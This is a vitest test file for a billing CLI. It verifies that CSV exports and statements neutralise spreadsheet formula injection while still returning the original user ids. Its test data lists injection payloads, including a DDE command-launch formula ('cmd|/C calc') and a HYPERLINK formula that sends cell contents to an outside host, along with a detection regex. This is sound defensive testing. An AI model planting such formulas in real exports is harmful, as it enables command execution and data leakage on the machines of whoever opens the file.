/** What `export` and `statement` write as CSV: nothing that a spreadsheet would execute, and everything that a program needs to get the user ids back. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { meterfold, startWorker } from '../support/processes.js';
import { bill } from '../support/runs.js';
import { freshStack, type Stack } from '../support/stack.js';

/** What spreadsheets take for a formula or skip before one, and what looks like a neutralised cell already. */
const USERS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠1',
  '=HYPERLINK("http://example.com?"&A1,"a")',
  "=cmd|'/C calc'!A0",
  'a;=1',
  "'=1",
  "''=1",
  "'",
  "o'clock",
  'plain',
  '1-1',
];

let stack: Stack;
beforeAll(async () => {
  stack = await freshStack();
  await startWorker(stack);
  await stack.pool.query(
    `insert into public.api_logs (user_id, usage, called_at)
     select user_id, 3, '2026-06-01Z' from unnest($1::text[]) user_id, generate_series(1, 6)`,
    [USERS],
  );
  await bill(stack);
});
afterAll(() => stack.close());

/** RFC 4180, cell by cell. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (let at = 0; at < text.length; ) {
    const quoted = text[at] === '"';
    const cell = (quoted ? /"((?:[^"]|"")*)"/y : /([^,\n]*)/y) as RegExp;
    cell.lastIndex = at;
    const [whole, inner] = cell.exec(text)!;
    rows.at(-1)!.push(quoted ? inner!.replaceAll('""', '"') : inner!);
    at += whole.length;
    if (text[at] === '\n' && at + 1 < text.length) rows.push([]);
    at++;
  }
  return rows;
}

/** The documented way back. */
const original = (cell: string) => cell.replace(/^'/, '');

const EXECUTED = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

test('an export has no cell that a spreadsheet executes, and gives each user id back', async () => {
  const { stdout } = await meterfold(stack, ['export', '--run', '1', '--csv']);
  const [, ...rows] = readCsv(stdout);
  expect(rows).toHaveLength(USERS.length);
  expect(rows.flat().filter((cell) => EXECUTED.test(cell))).toEqual([]);
  expect(rows.map(([user]) => original(user!)).sort()).toEqual([...USERS].sort());
  // Not a word more than that: the plain ones are as they are, and so is every number.
  expect(
    rows
      .map(([user]) => user)
      .filter((user) => !user!.startsWith("'"))
      .sort(),
  ).toEqual(['1-1', 'a;=1', "o'clock", 'plain'].sort());
  for (const row of rows) expect(row.slice(1, 6)).toEqual(['1', '5', '15', '0.006', 'USD']);
});

test.each(USERS)('the statement of %j has no cell that a spreadsheet executes, in none of its rows', async (user) => {
  const { stdout } = await meterfold(stack, ['statement', '--csv', '--', user]);
  const [, ...rows] = readCsv(stdout);
  expect(rows.map(([row, id]) => [row, original(id!)])).toEqual([
    ['cycle', user],
    ['total', user],
    ['open', user],
  ]);
  expect(rows.flat().filter((cell) => EXECUTED.test(cell))).toEqual([]);
});

test('JSON has the user ids as they are', async () => {
  const { stdout } = await meterfold(stack, ['export', '--run', '1', '--json']);
  const users = JSON.parse(stdout).records.map((record: { user_id: string }) => record.user_id);
  expect(users.sort()).toEqual([...USERS].sort());
});
